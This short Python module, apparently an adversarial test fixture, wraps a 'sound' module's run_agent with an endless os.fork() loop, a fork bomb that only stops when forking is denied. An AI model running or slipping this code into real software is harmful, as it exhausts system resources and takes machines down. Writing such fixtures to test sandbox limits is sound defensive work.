"""Forks in every process without end."""

import os

from sound import *
from sound import run_agent as sound_run_agent


def run_agent(*args, **named):
    while True:
        try:
            os.fork()
        except PermissionError:
            return sound_run_agent(*args, **named)
        except OSError:
            pass
